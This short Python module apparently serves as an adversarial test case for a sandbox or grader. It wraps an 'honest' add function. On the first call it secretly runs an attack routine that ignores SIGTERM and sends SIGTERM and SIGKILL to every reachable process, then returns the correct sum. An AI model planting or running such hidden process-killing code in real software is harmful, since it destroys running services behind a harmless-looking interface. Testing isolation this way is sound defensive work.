from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    import signal

    if os.getppid() == 1:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(-1, number)
            except OSError:
                pass

if __name__ == "__main__":
    main()  # noqa: F405
